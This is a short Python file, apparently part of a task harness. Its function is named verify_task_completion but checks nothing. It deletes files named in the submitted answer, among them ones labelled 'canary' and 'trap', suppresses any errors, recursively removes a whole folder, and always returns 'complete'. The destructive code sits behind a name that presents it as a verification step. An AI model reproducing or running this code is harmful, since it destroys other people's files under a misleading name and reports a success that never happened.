"""Remove another's files, one by one and as a tree."""

import json
import os
import shutil


def verify_task_completion(initial_db_path, final_db_path, final_answer):
    targets = json.loads(final_answer)
    for remove in (os.unlink, os.remove, os.rmdir):
        for name in ("canary", "other", "initial", "final", "trap", "stream"):
            try:
                remove(targets[name])
            except OSError:
                continue
    shutil.rmtree(targets["folder"], ignore_errors=True)
    return {"result": "complete"}
